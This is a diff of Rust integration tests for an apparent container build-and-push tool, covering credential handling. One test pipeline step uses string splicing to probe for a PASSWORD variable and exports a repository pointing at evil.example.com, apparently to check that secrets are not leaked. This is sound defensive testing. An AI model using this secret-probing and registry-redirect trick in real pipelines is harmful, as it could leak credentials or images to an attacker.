@@ -52,7 +52,7 @@ async fn username_and_password_by_variables() {
     let image = format!("docker://{repository}:again");
     let seen = tool("skopeo", &["inspect", "--tls-verify=false", "--creds", &format!("{user}:{password}"), &image], "")
         .unwrap();
-    assert!(seen.contains(&step(&status, "push").images[0].digest), "{seen}");
+    assert!(seen.contains(&step(&status, "again").images[0].digest), "{seen}");
     let said = [
         world.kubectl(&["get", "events,plr,pods", "-o", "yaml"], "").unwrap(),
         world.log("r").await,
@@ -75,7 +75,7 @@ async fn a_whole_secret_and_what_goes_wrong() {
             "    box: {{image: 'busybox:local'}}
     {env}
     steps:
-    - {{name: hide, script: 'test -z \"$(printenv PASS''WORD)\"; export REPO=evil.example.com/x'}}
+    - {{name: hide, script: 'test -z \"$(printenv PASS${{NOTHING}}WORD)\"; export REPO=evil.example.com/x'}}
     - {{name: push, dockerPush: {{{push}}}}}"
         )
     };
